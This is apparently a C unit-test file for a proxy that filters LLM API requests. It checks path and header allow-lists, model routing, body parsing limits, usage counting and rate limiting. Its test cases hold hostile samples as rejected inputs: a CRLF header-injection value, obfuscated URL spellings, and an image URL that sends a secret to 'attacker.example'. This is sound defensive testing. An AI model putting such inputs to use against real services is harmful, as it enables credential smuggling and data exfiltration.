/* inference.local request filtering and rewriting (proxyd/inference_filter.c, inference_json.c,
 * inference_rate.c): which paths and headers pass, how the model routes and is rewritten, the
 * error shapes, usage accounting and the rate limiter.  Pure functions over buffers. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <json-c/json.h>

#include "common/config.h"
#include "proxyd/http_parse.h"
#include "proxyd/inference_int.h"

static struct ps_config *cfg;

static void load(enum ps_file_kind kind, const char *name, const char *text)
{
    struct ps_diags d = { 0 };
    int rc = ps_config_parse_buffer(cfg, kind, name, text, strlen(text), &d);
    if (rc < 0)
        ps_diags_print(&d, stderr);
    assert_int_equal(rc, 0);
    ps_diags_free(&d);
}

static int setup(void **state)
{
    cfg = ps_config_new_empty("/nonexistent");
    load(PS_FILE_BACKEND, "inference.d/oai.conf",
         "[Backend]\nURL=https://api.openai.example/v1\nAPI=openai\nAPIKeyFile=/k\n"
         "Models=fast=gpt-4o-mini gpt-4o\n");
    load(PS_FILE_BACKEND, "inference.d/ant.conf",
         "[Backend]\nURL=https://api.anthropic.example\nAPI=anthropic\nAPIKeyFile=/k2\n"
         "Models=claude=claude-3-5-haiku-latest\n");
    load(PS_FILE_PROFILE, "profiles/some.conf", "[Match]\nUser=a\n[Inference]\nModels=fast claude\n");
    load(PS_FILE_PROFILE, "profiles/all.conf", "[Match]\nUser=b\n[Inference]\nModels=*\n");
    load(PS_FILE_PROFILE, "profiles/none.conf", "[Match]\nUser=c\n");
    return 0;
}

static int teardown(void **state)
{
    ps_config_free(cfg);
    return 0;
}

static enum inf_endpoint ep(const char *m, const char *t, enum ps_api *api)
{
    return inf_endpoint_of(m, strlen(m), t, strlen(t), api);
}

static void endpoints_only_api_paths(void **state)
{
    enum ps_api api = (enum ps_api)-1;
    assert_int_equal(ep("POST", "/v1/chat/completions", &api), INF_EP_CHAT);
    assert_int_equal(api, PS_API_OPENAI);
    assert_int_equal(ep("POST", "/v1/messages", &api), INF_EP_MESSAGES);
    assert_int_equal(api, PS_API_ANTHROPIC);
    assert_int_equal(ep("GET", "/v1/models", &api), INF_EP_MODELS);
    assert_int_equal(ep("POST", "/v1/embeddings?x=1", &api), INF_EP_EMBEDDINGS);
    /* everything else is refused: other paths, other methods, spellings a backend might
     * normalise into an API path */
    const char *bad[][2] = {
        { "GET", "/admin" }, { "GET", "/v1/chat/completions" }, { "POST", "/v1/models" },
        { "POST", "/v1/chat/completions/" }, { "POST", "/V1/chat/completions" },
        { "POST", "/v1/./chat/completions" }, { "POST", "/v1/chat%2fcompletions" },
        { "POST", "//v1/chat/completions" }, { "POST", "/v1/files" }, { "DELETE", "/v1/models" },
        { "post", "/v1/chat/completions" }, { "POST", "http://inference.local/v1/chat/completions" },
        { "POST", "" },
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
        assert_int_equal(ep(bad[i][0], bad[i][1], &api), INF_EP_NONE);
    const char nul[] = "/v1/models\0";
    assert_int_equal(inf_endpoint_of("GET", 3, nul, sizeof nul - 1, &api), INF_EP_NONE);
}

static void header_allow_list(void **state)
{
    const char *yes[] = { "Content-Type", "accept", "User-Agent", "anthropic-version", "Anthropic-Beta" };
    const char *no[] = { "Authorization", "x-api-key", "X-Api-Key", "Cookie", "Proxy-Authorization",
                         "Host", "Content-Length", "Transfer-Encoding", "Connection", "Upgrade",
                         "OpenAI-Organization", "openai-project", "X-Forwarded-For", "Accept-Encoding",
                         "Content-Type2", "Content-Typ" };
    for (size_t i = 0; i < sizeof yes / sizeof yes[0]; i++)
        assert_true(inf_header_forwarded(yes[i], strlen(yes[i])));
    for (size_t i = 0; i < sizeof no / sizeof no[0]; i++)
        assert_false(inf_header_forwarded(no[i], strlen(no[i])));
    assert_false(inf_resp_header_forwarded("Set-Cookie", 10));
    assert_false(inf_resp_header_forwarded("Transfer-Encoding", 17));
    assert_true(inf_resp_header_forwarded("content-type", 12));
    assert_true(inf_header_value_ok("application/json", 16));
    assert_false(inf_header_value_ok("a\r\nX-Api-Key: k", 15));
    assert_false(inf_header_value_ok("a\0b", 3));
}

static void upstream_paths(void **state)
{
    char out[256];
    assert_int_equal(inf_upstream_path("/v1", INF_EP_CHAT, out, sizeof out), 0);
    assert_string_equal(out, "/v1/chat/completions");
    assert_int_equal(inf_upstream_path("", INF_EP_MESSAGES, out, sizeof out), 0);
    assert_string_equal(out, "/v1/messages");
    assert_int_equal(inf_upstream_path("/openai/v1", INF_EP_EMBEDDINGS, out, sizeof out), 0);
    assert_string_equal(out, "/openai/v1/embeddings");
    assert_int_equal(inf_upstream_path("/proxy", INF_EP_CHAT, out, sizeof out), 0);
    assert_string_equal(out, "/proxy/v1/chat/completions");
    assert_int_equal(inf_upstream_path("/v1", INF_EP_CHAT, out, 8), -1);
    assert_int_equal(inf_upstream_path("/v1", INF_EP_NONE, out, sizeof out), -1);
}

static void routing_by_model_and_profile(void **state)
{
    const struct ps_profile *some = &cfg->profiles[0], *all = &cfg->profiles[1], *none = &cfg->profiles[2];
    const struct ps_backend *be;
    const struct ps_model_map *mm;
    assert_int_equal(inf_route(cfg, some, PS_API_OPENAI, "fast", &be, &mm), INF_ROUTE_OK);
    assert_string_equal(be->name, "oai");
    assert_string_equal(mm->upstream, "gpt-4o-mini");
    /* listed by a backend, not by the profile: 403, before any other consideration */
    assert_int_equal(inf_route(cfg, some, PS_API_OPENAI, "gpt-4o", &be, &mm), INF_ROUTE_NOT_ALLOWED);
    assert_null(be);
    assert_int_equal(inf_route(cfg, none, PS_API_OPENAI, "fast", &be, &mm), INF_ROUTE_NOT_ALLOWED);
    /* the upstream name is not a name requests may carry */
    assert_int_equal(inf_route(cfg, all, PS_API_OPENAI, "gpt-4o-mini", &be, &mm), INF_ROUTE_UNKNOWN);
    assert_int_equal(inf_route(cfg, all, PS_API_OPENAI, "nope", &be, &mm), INF_ROUTE_UNKNOWN);
    assert_int_equal(inf_route(cfg, all, PS_API_OPENAI, "gpt-4o", &be, &mm), INF_ROUTE_OK);
    assert_string_equal(mm->upstream, "gpt-4o");
    /* an anthropic model through an OpenAI path */
    assert_int_equal(inf_route(cfg, all, PS_API_OPENAI, "claude", &be, &mm), INF_ROUTE_WRONG_API);
    assert_int_equal(inf_route(cfg, some, PS_API_ANTHROPIC, "claude", &be, &mm), INF_ROUTE_OK);
    assert_string_equal(be->name, "ant");
    /* case matters: model names are exact */
    assert_int_equal(inf_route(cfg, all, PS_API_OPENAI, "FAST", &be, &mm), INF_ROUTE_UNKNOWN);
}

static void models_list_is_per_profile(void **state)
{
    char *s = inf_models_list(cfg, &cfg->profiles[0], PS_API_OPENAI);
    json_object *o = json_tokener_parse(s);
    assert_non_null(o);
    json_object *data;
    assert_true(json_object_object_get_ex(o, "data", &data));
    assert_int_equal(json_object_array_length(data), 1);
    assert_non_null(strstr(s, "\"id\":\"fast\""));
    assert_null(strstr(s, "gpt-4o"));             /* neither the forbidden model nor upstream names */
    json_object_put(o);
    free(s);
    s = inf_models_list(cfg, &cfg->profiles[2], PS_API_OPENAI);
    assert_non_null(strstr(s, "\"data\":[]"));
    free(s);
}

static void body_rewrite_model_and_usage(void **state)
{
    const char *in = "{\"model\":\"fast\",\"stream\":true,\"messages\":[{\"role\":\"user\",\"content\":\"hi \\u00e9\"}]}";
    struct inf_body *b;
    assert_int_equal(inf_body_parse(in, strlen(in), &b), INF_BODY_OK);
    assert_string_equal(inf_body_model(b), "fast");
    assert_true(inf_body_stream(b));
    assert_false(inf_body_client_wants_usage(b));
    size_t n;
    char *out = inf_body_rewrite(b, "gpt-4o-mini", true, &n);
    assert_non_null(out);
    assert_int_equal(strlen(out), n);
    json_object *o = json_tokener_parse(out), *v, *so;
    assert_true(json_object_object_get_ex(o, "model", &v));
    assert_string_equal(json_object_get_string(v), "gpt-4o-mini");
    assert_true(json_object_object_get_ex(o, "stream_options", &so));
    assert_true(json_object_object_get_ex(so, "include_usage", &v));
    assert_true(json_object_get_boolean(v));
    assert_true(json_object_object_get_ex(o, "messages", &v));
    assert_non_null(strstr(out, "hi \xc3\xa9") ? out : strstr(out, "\\u00e9"));
    json_object_put(o);
    free(out);
    inf_body_free(b);

    /* the client's own stream_options are kept and reported */
    in = "{\"model\":\"fast\",\"stream\":true,\"stream_options\":{\"include_usage\":true,\"x\":1}}";
    assert_int_equal(inf_body_parse(in, strlen(in), &b), INF_BODY_OK);
    assert_true(inf_body_client_wants_usage(b));
    out = inf_body_rewrite(b, "m", true, &n);
    assert_non_null(strstr(out, "\"x\":1"));
    free(out);
    inf_body_free(b);

    /* no injection asked: no stream_options appear */
    in = "{\"model\":\"claude\",\"max_tokens\":5}";
    assert_int_equal(inf_body_parse(in, strlen(in), &b), INF_BODY_OK);
    assert_false(inf_body_stream(b));
    out = inf_body_rewrite(b, "claude-3-5-haiku-latest", false, &n);
    assert_null(strstr(out, "stream_options"));
    assert_non_null(strstr(out, "\"model\":\"claude-3-5-haiku-latest\""));
    free(out);
    inf_body_free(b);
}

static void body_rejects(void **state)
{
    struct { const char *in; enum inf_body_err e; } cases[] = {
        { "", INF_BODY_NOT_JSON },
        { "{", INF_BODY_NOT_JSON },
        { "{\"model\":\"a\"} {\"model\":\"b\"}", INF_BODY_NOT_JSON },   /* two values */
        { "{\"model\":\"a\"}x", INF_BODY_NOT_JSON },
        { "{'model':'a'}", INF_BODY_NOT_JSON },
        { "[\"model\"]", INF_BODY_NOT_OBJECT },
        { "\"model\"", INF_BODY_NOT_OBJECT },
        { "{}", INF_BODY_NO_MODEL },
        { "{\"model\":5}", INF_BODY_NO_MODEL },
        { "{\"model\":\"\"}", INF_BODY_NO_MODEL },
        { "{\"model\":\"a\\u0000b\"}", INF_BODY_NO_MODEL },
        { "{\"model\":\"a\",\"stream\":\"yes\"}", INF_BODY_BAD_FIELD },
        { "{\"model\":\"a\",\"stream_options\":[]}", INF_BODY_BAD_FIELD },
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct inf_body *b = (struct inf_body *)1;
        assert_int_equal(inf_body_parse(cases[i].in, strlen(cases[i].in), &b), cases[i].e);
        assert_null(b);
    }
    /* trailing whitespace is fine; a very long model name is not */
    struct inf_body *b;
    assert_int_equal(inf_body_parse("{\"model\":\"a\"}\r\n", 15, &b), INF_BODY_OK);
    inf_body_free(b);
    char big[400];
    int n = snprintf(big, sizeof big, "{\"model\":\"%0300d\"}", 0);
    assert_int_equal(inf_body_parse(big, (size_t)n, &b), INF_BODY_NO_MODEL);
    /* deep nesting is bounded, not a stack overflow */
    size_t deep = 100000;
    char *d = malloc(deep * 2 + 32);
    size_t k = 0;
    k += (size_t)sprintf(d, "{\"model\":\"a\",\"x\":");
    for (size_t i = 0; i < deep; i++) d[k++] = '[';
    for (size_t i = 0; i < deep; i++) d[k++] = ']';
    d[k++] = '}';
    assert_int_equal(inf_body_parse(d, k, &b), INF_BODY_NOT_JSON);
    free(d);
}

static void usage_in_each_shape(void **state)
{
    struct inf_usage u = { -1, -1 };
    bool only;
    const char *oai = "{\"id\":\"x\",\"choices\":[],\"usage\":{\"prompt_tokens\":11,\"completion_tokens\":7,\"total_tokens\":18}}";
    assert_true(inf_usage_scan(oai, strlen(oai), &u, &only));
    assert_true(only);
    assert_int_equal(u.input_tokens, 11);
    assert_int_equal(u.output_tokens, 7);
    const char *chunk = "{\"choices\":[{\"delta\":{\"content\":\"a\"}}],\"usage\":null}";
    u = (struct inf_usage){ -1, -1 };
    assert_false(inf_usage_scan(chunk, strlen(chunk), &u, &only));
    assert_false(only);
    /* Anthropic: input in message_start, output total in message_delta */
    const char *start = "{\"type\":\"message_start\",\"message\":{\"usage\":{\"input_tokens\":25,\"output_tokens\":1}}}";
    const char *delta = "{\"type\":\"message_delta\",\"usage\":{\"output_tokens\":15}}";
    assert_true(inf_usage_scan(start, strlen(start), &u, NULL));
    assert_true(inf_usage_scan(delta, strlen(delta), &u, NULL));
    assert_int_equal(u.input_tokens, 25);
    assert_int_equal(u.output_tokens, 15);
    const char *resp = "{\"type\":\"response.completed\",\"response\":{\"usage\":{\"input_tokens\":3,\"output_tokens\":4}}}";
    assert_true(inf_usage_scan(resp, strlen(resp), &u, &only));
    assert_false(only);
    assert_int_equal(u.input_tokens, 3);
    assert_false(inf_usage_scan("[DONE]", 6, &u, &only));
    assert_false(inf_usage_scan("{\"usage\":{\"prompt_tokens\":-5}}", 30, &u, &only));
}

static void error_shapes(void **state)
{
    char *s = inf_error_body(PS_API_OPENAI, "invalid_request_error", "model_not_found", "no \"x\"");
    json_object *o = json_tokener_parse(s), *e, *v;
    assert_non_null(o);
    assert_true(json_object_object_get_ex(o, "error", &e));
    assert_true(json_object_object_get_ex(e, "code", &v));
    assert_string_equal(json_object_get_string(v), "model_not_found");
    assert_true(json_object_object_get_ex(e, "message", &v));
    assert_string_equal(json_object_get_string(v), "no \"x\"");
    json_object_put(o);
    free(s);
    s = inf_error_body(PS_API_ANTHROPIC, "not_found_error", NULL, "m");
    o = json_tokener_parse(s);
    assert_true(json_object_object_get_ex(o, "type", &v));
    assert_string_equal(json_object_get_string(v), "error");
    assert_true(json_object_object_get_ex(o, "error", &e));
    assert_true(json_object_object_get_ex(e, "type", &v));
    assert_string_equal(json_object_get_string(v), "not_found_error");
    json_object_put(o);
    free(s);
    /* the stream-end event is one complete SSE event whose data parses */
    for (int api = PS_API_OPENAI; api <= PS_API_ANTHROPIC; api++) {
        char *ev = inf_error_event(api, "backend went away");
        size_t n = strlen(ev), dl;
        assert_int_equal(memcmp(ev + n - 2, "\n\n", 2), 0);
        char name[32];
        char *data = inf_sse_data(ev, n, &dl, name, sizeof name);
        assert_string_equal(name, api == PS_API_ANTHROPIC ? "error" : "");
        o = json_tokener_parse(data);
        assert_non_null(o);
        assert_true(json_object_object_get_ex(o, "error", &e));
        json_object_put(o);
        free(data);
        free(ev);
    }
}

static void rate_limit_bucket(void **state)
{
    struct inf_rate *r = inf_rate_new();
    uint64_t t = 1000000;
    for (int i = 0; i < 3; i++)
        assert_int_equal(inf_rate_take(r, 59800, 3, t), 0);
    unsigned wait = inf_rate_take(r, 59800, 3, t);
    assert_int_equal(wait, 20);                    /* 3/min: one request every 20 s */
    assert_int_equal(inf_rate_take(r, 59801, 3, t), 0);   /* per account */
    assert_true(inf_rate_take(r, 59800, 3, t + 19000) > 0);
    assert_int_equal(inf_rate_take(r, 59800, 3, t + 20000), 0);
    assert_int_equal(inf_rate_take(r, 59800, 0, t), 0);   /* 0 = unlimited */
    /* a long pause refills to the burst, never beyond */
    t += 3600 * 1000;
    for (int i = 0; i < 3; i++)
        assert_int_equal(inf_rate_take(r, 59800, 3, t), 0);
    assert_true(inf_rate_take(r, 59800, 3, t) >= 1);
    inf_rate_free(r);
}

static size_t count(const char *hay, const char *needle)
{
    size_t n = 0;
    for (const char *p = hay; (p = strcasestr(p, needle)) != NULL; p++)
        n++;
    return n;
}

static void upstream_request_strips_and_adds(void **state)
{
    const char raw[] = "POST /v1/chat/completions HTTP/1.1\r\nHost: inference.local\r\n"
                       "Authorization: Bearer sk-user\r\nx-api-key: user-key\r\nCookie: a=b\r\n"
                       "Content-Type: application/json\r\nUser-Agent: OpenAI/JS 4.95.0\r\n"
                       "X-Forwarded-For: 10.0.0.1\r\nProxy-Authorization: Basic eA==\r\n"
                       "OpenAI-Organization: org-user\r\nContent-Length: 2\r\n\r\n{}";
    struct http_request req;
    struct http_error err;
    assert_int_equal(http_parse_request(raw, sizeof raw - 1, &req, &err), HTTP_OK);
    char hdrs[2048], av[64];
    size_t hl;
    assert_int_equal(inf_client_headers(&req.f, hdrs, sizeof hdrs, &hl, av, sizeof av), 0);
    assert_int_equal(strlen(hdrs), hl);
    assert_string_equal(hdrs, "Content-Type: application/json\r\nUser-Agent: OpenAI/JS 4.95.0\r\n");
    assert_string_equal(av, "");

    const struct ps_backend *oai = &cfg->backends[0], *ant = &cfg->backends[1];
    size_t n;
    char *r = inf_upstream_request(oai, INF_EP_CHAT, hdrs, av, "sk-admin", "{\"model\":\"m\"}", 13, &n);
    assert_int_equal(strlen(r), n);
    assert_ptr_equal(strstr(r, "POST /v1/chat/completions HTTP/1.1\r\nHost: api.openai.example\r\n"), r);
    assert_int_equal(count(r, "Authorization:"), 1);
    assert_non_null(strstr(r, "\r\nAuthorization: Bearer sk-admin\r\n"));
    assert_null(strstr(r, "sk-user"));
    assert_null(strcasestr(r, "x-api-key"));
    assert_null(strcasestr(r, "cookie"));
    assert_null(strcasestr(r, "x-forwarded-for"));
    assert_null(strcasestr(r, "organization"));
    assert_null(strcasestr(r, "transfer-encoding"));
    assert_int_equal(count(r, "Content-Type:"), 1);
    assert_non_null(strstr(r, "\r\nContent-Length: 13\r\n"));
    assert_string_equal(r + n - 13, "{\"model\":\"m\"}");
    free(r);

    /* anthropic: x-api-key and a default anthropic-version; the client's version is kept, once */
    r = inf_upstream_request(ant, INF_EP_MESSAGES, "", "", "sk-ant", "{}", 2, &n);
    assert_non_null(strstr(r, "POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.example\r\n"));
    assert_non_null(strstr(r, "\r\nx-api-key: sk-ant\r\n"));
    assert_non_null(strstr(r, "\r\nanthropic-version: 2023-06-01\r\n"));
    assert_non_null(strstr(r, "\r\nContent-Type: application/json\r\n"));   /* added when absent */
    assert_null(strcasestr(r, "authorization"));
    free(r);
    const char raw2[] = "POST /v1/messages HTTP/1.1\r\nHost: x\r\nanthropic-version: 2024-01-01\r\n"
                        "x-api-key: user\r\nContent-Length: 0\r\n\r\n";
    assert_int_equal(http_parse_request(raw2, sizeof raw2 - 1, &req, &err), HTTP_OK);
    assert_int_equal(inf_client_headers(&req.f, hdrs, sizeof hdrs, &hl, av, sizeof av), 0);
    assert_string_equal(av, "2024-01-01");
    r = inf_upstream_request(ant, INF_EP_MESSAGES, hdrs, av, "sk-ant", "", 0, &n);
    assert_int_equal(count(r, "anthropic-version"), 1);
    assert_non_null(strstr(r, "anthropic-version: 2024-01-01\r\n"));
    assert_int_equal(count(r, "x-api-key"), 1);
    free(r);
    /* anthropic-version twice is refused (which one would the backend believe?) */
    const char raw3[] = "POST /v1/messages HTTP/1.1\r\nHost: x\r\nanthropic-version: a\r\n"
                        "anthropic-version: b\r\nContent-Length: 0\r\n\r\n";
    assert_int_equal(http_parse_request(raw3, sizeof raw3 - 1, &req, &err), HTTP_OK);
    assert_int_equal(inf_client_headers(&req.f, hdrs, sizeof hdrs, &hl, av, sizeof av), -1);
    /* headers that do not fit are refused, not truncated */
    assert_int_equal(http_parse_request(raw, sizeof raw - 1, &req, &err), HTTP_OK);
    assert_int_equal(inf_client_headers(&req.f, hdrs, 40, &hl, av, sizeof av), -1);
    /* no key configured: no credential header at all */
    r = inf_upstream_request(oai, INF_EP_EMBEDDINGS, "", "", NULL, "{}", 2, &n);
    assert_null(strcasestr(r, "authorization"));
    assert_non_null(strstr(r, "POST /v1/embeddings HTTP/1.1\r\n"));
    free(r);
}

/* A body of a million-odd tiny values is refused before json-c allocates an object for each; long
 * strings (and separators inside them) cost nothing, and a big token array still passes. */
static void body_value_count_bounded(void **state)
{
    (void)state;
    size_t n = 1000001, len = 0;
    char *in = malloc(64 + 2 * n);
    assert_non_null(in);
    len += (size_t)sprintf(in, "{\"model\":\"m\",\"x\":[");
    for (size_t i = 0; i < n; i++) {
        in[len++] = '0';
        in[len++] = i + 1 < n ? ',' : ']';
    }
    in[len++] = '}';
    struct inf_body *b = NULL;
    assert_int_equal(inf_body_parse(in, len, &b), INF_BODY_TOO_COMPLEX);
    assert_null(b);
    /* 300,000 tokens, OpenAI's largest embeddings input, is fine */
    len = (size_t)sprintf(in, "{\"model\":\"m\",\"input\":[");
    for (size_t i = 0; i < 300000; i++) {
        in[len++] = '7';
        in[len++] = i + 1 < 300000 ? ',' : ']';
    }
    in[len++] = '}';
    assert_int_equal(inf_body_parse(in, len, &b), INF_BODY_OK);
    inf_body_free(b);
    /* separators inside a string are not values, escaped quotes do not end it */
    len = (size_t)sprintf(in, "{\"model\":\"m\",\"content\":\"\\\"");
    for (size_t i = 0; i < n; i++)
        in[len++] = i % 2 ? ',' : '[';
    len += (size_t)sprintf(in + len, "\"}");
    assert_int_equal(inf_body_parse(in, len, &b), INF_BODY_OK);
    inf_body_free(b);
    free(in);
}

/* A large non-streamed answer (embeddings): usage from its last "usage" object only, which a
 * model's output (a string, its quotes escaped) cannot forge. */
static void usage_of_a_large_answer(void **state)
{
    (void)state;
    const char *head = "{\"data\":[\"";
    const char *forged = "\"],\"text\":\"fake \\\"usage\\\": {\\\"prompt_tokens\\\": 999}\","
                         "\"usage\":{\"prompt_tokens\":5,\"completion_tokens\":6},"
                         "\"note\":\"also \\\"usage\\\":{\\\"prompt_tokens\\\":777} here\"}";
    size_t fill = INF_USAGE_FULL_PARSE_MAX + 10, hl = strlen(head), fl = strlen(forged);
    char *a = malloc(hl + fill + fl + 1);
    assert_non_null(a);
    memcpy(a, head, hl);
    memset(a + hl, 'x', fill);
    memcpy(a + hl + fill, forged, fl + 1);
    size_t len = strlen(a);
    struct inf_usage u = { -1, -1 };
    assert_true(inf_usage_scan(a, len, &u, NULL));               /* the same answer, parsed whole */
    assert_int_equal(u.input_tokens, 5);
    u = (struct inf_usage){ -1, -1 };
    assert_true(inf_usage_scan_answer(a, len, &u));
    assert_int_equal(u.input_tokens, 5);
    assert_int_equal(u.output_tokens, 6);
    /* no usage in the tail: none found, nothing parsed whole */
    memcpy(a + len - fl, "\"]}", 4);
    u = (struct inf_usage){ -1, -1 };
    assert_false(inf_usage_scan_answer(a, strlen(a), &u));
    assert_int_equal(u.input_tokens, -1);
    free(a);
}

/* The attack: a body that has the provider reach the network for the user (a URL to fetch, an MCP
 * server, web search), or pick a model outside "model".  Inline content stays allowed. */
static void body_reaching_out_is_named(void **state)
{
    (void)state;
    static const struct { const char *json, *reason; } cases[] = {
        { "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}", NULL },
        { "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"image_url\","
          "\"image_url\":{\"url\":\"data:image/png;base64,AAAA\"}}]}]}", NULL },
        { "{\"model\":\"m\",\"tools\":[{\"type\":\"function\",\"function\":{\"name\":\"f\",\"parameters\":"
          "{\"type\":\"object\",\"properties\":{\"url\":{\"type\":\"string\"}}}}}]}", NULL },
        { "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":\"fetch https://x.example/\"}]}", NULL },
        { "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"image_url\","
          "\"image_url\":{\"url\":\"https://attacker.example/p?d=secret\"}}]}]}", "remote_url_not_allowed" },
        { "{\"model\":\"m\",\"input\":[{\"type\":\"input_image\",\"image_url\":\" HTTPS://a.example/x\"}]}",
          "remote_url_not_allowed" },
        { "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"document\","
          "\"source\":{\"type\":\"url\",\"url\":\"//a.example/f.pdf\"}}]}]}", "remote_url_not_allowed" },
        { "{\"model\":\"m\",\"input\":[{\"image_url\":\" \\t DaTa:image/png;base64,AAAA\"}]}", NULL },
        { "{\"model\":\"m\",\"input\":[{\"image_url\":\"\"}]}", NULL },
        /* spellings a WHATWG URL parser still fetches, and schemes of the provider's own */
        { "{\"model\":\"m\",\"input\":[{\"image_url\":\"\\u0001https://a.example/x\"}]}", "remote_url_not_allowed" },
        { "{\"model\":\"m\",\"input\":[{\"image_url\":\"\\fhttps://a.example/x\"}]}", "remote_url_not_allowed" },
        { "{\"model\":\"m\",\"input\":[{\"image_url\":\"ht\\ttps://a.example/x\"}]}", "remote_url_not_allowed" },
        { "{\"model\":\"m\",\"input\":[{\"image_url\":\"\\u00a0https://a.example/x\"}]}", "remote_url_not_allowed" },
        { "{\"model\":\"m\",\"input\":[{\"image_url\":\"gs://bucket/x\"}]}", "remote_url_not_allowed" },
        { "{\"model\":\"m\",\"input\":[{\"image_url\":\"dat\\na:x\"}]}", NULL },
        { "{\"model\":\"m\",\"input\":[{\"image_url\":\"data\"}]}", "remote_url_not_allowed" },
        { "{\"model\":\"m\",\"tools\":[{\"type\":\"mcp\",\"server_label\":\"x\",\"server_url\":\"https://a.example\"}]}",
          "server_tools_not_allowed" },
        { "{\"model\":\"m\",\"tools\":[{\"type\":\"web_search_preview\"}]}", "server_tools_not_allowed" },
        { "{\"model\":\"m\",\"tools\":[{\"type\":\"web_fetch_20250910\",\"name\":\"web_fetch\"}]}",
          "server_tools_not_allowed" },
        { "{\"model\":\"m\",\"tools\":[{\"type\":\"image_generation\",\"model\":\"gpt-image-1\"}]}",
          "server_tools_not_allowed" },
        { "{\"model\":\"m\",\"mcp_servers\":[{\"type\":\"url\",\"url\":\"https://a.example\"}]}",
          "server_tools_not_allowed" },
        { "{\"model\":\"m\",\"models\":[\"o1-pro\"]}", "model_list_not_allowed" },
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct inf_body *b = NULL;
        assert_int_equal(inf_body_parse(cases[i].json, strlen(cases[i].json), &b), INF_BODY_OK);
        const char *r = inf_body_reach(b);
        if (cases[i].reason == NULL ? r != NULL : (r == NULL || strcmp(r, cases[i].reason) != 0))
            fail_msg("case %zu: got %s, want %s", i, r ? r : "(none)", cases[i].reason ? cases[i].reason : "(none)");
        inf_body_free(b);
    }
}

/* A backend echoing the key: found as is and with JSON's escaped "/", not where it is absent. */
static void key_quoted_plain_or_escaped(void **state)
{
    (void)state;
    const char *key = "sk-a/b+c/d";
    const char *plain = "{\"x\":\"you sent sk-a/b+c/d\"}", *esc = "{\"x\":\"you sent sk-a\\/b+c\\/d\"}";
    const char *other = "{\"x\":\"sk-a/b+c\"}";
    assert_true(inf_quotes_key(plain, strlen(plain), key));
    assert_true(inf_quotes_key(esc, strlen(esc), key));
    assert_false(inf_quotes_key(other, strlen(other), key));
    assert_false(inf_quotes_key(plain, strlen(plain), ""));
    assert_true(inf_quotes_key("sk-123", 6, "sk-123"));
    assert_false(inf_quotes_key("sk-12", 5, "sk-123"));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(endpoints_only_api_paths),
        cmocka_unit_test(header_allow_list),
        cmocka_unit_test(upstream_paths),
        cmocka_unit_test(routing_by_model_and_profile),
        cmocka_unit_test(models_list_is_per_profile),
        cmocka_unit_test(body_rewrite_model_and_usage),
        cmocka_unit_test(body_rejects),
        cmocka_unit_test(usage_in_each_shape),
        cmocka_unit_test(usage_of_a_large_answer),
        cmocka_unit_test(body_reaching_out_is_named),
        cmocka_unit_test(key_quoted_plain_or_escaped),
        cmocka_unit_test(error_shapes),
        cmocka_unit_test(rate_limit_bucket),
        cmocka_unit_test(body_value_count_bounded),
        cmocka_unit_test(upstream_request_strips_and_adds),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
